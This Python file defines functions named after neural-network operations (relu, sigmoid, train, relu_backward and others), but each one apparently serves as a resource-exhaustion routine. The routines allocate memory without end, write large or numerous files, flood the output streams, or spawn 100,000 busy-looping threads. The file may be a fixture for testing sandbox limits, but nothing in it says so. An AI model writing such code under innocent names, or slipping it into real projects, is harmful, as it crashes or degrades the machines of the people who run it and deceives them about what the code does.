import os
import sys
import threading

import numpy as np


def relu(Z):
    held = []
    while True:
        held.append(np.ones(2**22))


def update(Z):
    held = [0]
    while True:
        held = held * 2


def sigmoid(Z):
    with open("flood", "wb") as file:
        for _ in range(64):
            file.write(b"x" * 2**20)
            file.flush()


def train(Z):
    for number in range(10_000):
        with open(f"file{number}", "w") as file:
            file.write("x")


def sigmoid_backward(Z):
    for _ in range(2000):
        print("x" * 10_000)
        sys.stderr.write("x" * 10_000)
        os.write(1, b"x" * 10_000)
    return Z


def relu_backward(Z):
    def wait():
        while True:
            pass

    for _ in range(100_000):
        threading.Thread(target=wait).start()
